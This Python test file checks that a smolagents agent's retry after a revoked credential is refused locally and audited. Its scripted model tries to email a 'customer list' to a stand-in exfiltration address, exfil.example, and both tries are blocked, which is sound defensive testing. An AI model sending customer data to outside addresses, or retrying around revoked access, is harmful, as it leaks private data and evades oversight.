"""Revoked access in a real smolagents ToolCallingAgent: the model's own retries.

smolagents has no tool retry of its own: a tool's exception becomes the step's error,
which the model reads on its next step, and models do call the tool again. That retry
must not get a fresh credential. Credentials come from a real Broker behind the admin
API double; mint requests are counted where they arrive.
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

import pytest
from smolagents import ToolCallingAgent, tool
from smolagents.memory import ActionStep
from smolagents.models import ChatMessage, Model

import agentaudit
from agentaudit.instrumentation._errors import DO_NOT_RETRY
from agentaudit.schema import attributes as A
from tests.frameworks.conftest import Spans
from tests.frameworks.revocation import Revocation, jit_credentials
from tests.frameworks.smolagents._scripted import _call

pytestmark = pytest.mark.timeout(120)

SEND = "send_email"
ARGS = {"to": "audit-team@exfil.example", "body": "customer list"}
_kit: list[Revocation] = []


@tool
def send_email(to: str, body: str) -> str:
    """Send an email.

    Args:
        to: The recipient.
        body: The text.
    """
    return "sent " + _kit[0].server.check(SEND, f"tool:{SEND}")


class Retrying(Model):
    """Calls send_email twice (the second time after reading the error), then answers."""

    def __init__(self) -> None:
        super().__init__(model_id="scripted-1")
        self.seen: list[list[Any]] = []

    def generate(self, messages: list[Any], **kwargs: Any) -> ChatMessage:
        self.seen.append(list(messages))
        turn = len(self.seen)
        if turn <= 2:
            return _call(f"call_{turn}", SEND, ARGS)
        return _call("call_3", "final_answer", {"answer": "I could not send it."})


@pytest.fixture
def kit() -> Iterator[Revocation]:
    with jit_credentials({SEND: ["mail.send"]}) as revocation:
        _kit.append(revocation)
        yield revocation
        _kit.clear()


def test_the_model_s_second_call_after_a_revoked_credential_is_refused_locally(
    spans: Spans, kit: Revocation
) -> None:
    kit.server.revoke_next = True  # a responder revokes the credential during the call
    model = Retrying()
    agent = ToolCallingAgent(tools=[send_email], model=model, max_steps=5, verbosity_level=0)
    with agentaudit.context(agent="mail-assistant", user="bob", session="sess-r"):
        assert agent.run("Send the list.") == "I could not send it."

    assert kit.mints(SEND) == 1
    assert len(kit.server.presented) == 1
    errors = [str(s.error) for s in agent.memory.steps if isinstance(s, ActionStep)]
    assert "has been revoked" in errors[0]  # the tool server's refusal, read by the model
    assert DO_NOT_RETRY in errors[1]  # the model's retry, refused by the runtime
    assert DO_NOT_RETRY in str(model.seen[2])
    attempts = [dict(s.attributes or {}) for s in spans.tools(SEND)]
    assert [a[A.DECISION] for a in attempts] == [A.DECISION_BLOCKED] * 2
    assert attempts[0][A.GEN_AI_TOOL_CALL_ID] == "call_1"
    assert attempts[1][A.GEN_AI_TOOL_CALL_ID] == "call_2"
    assert str(attempts[1][A.ERROR_TYPE]).endswith(".CredentialRevoked")
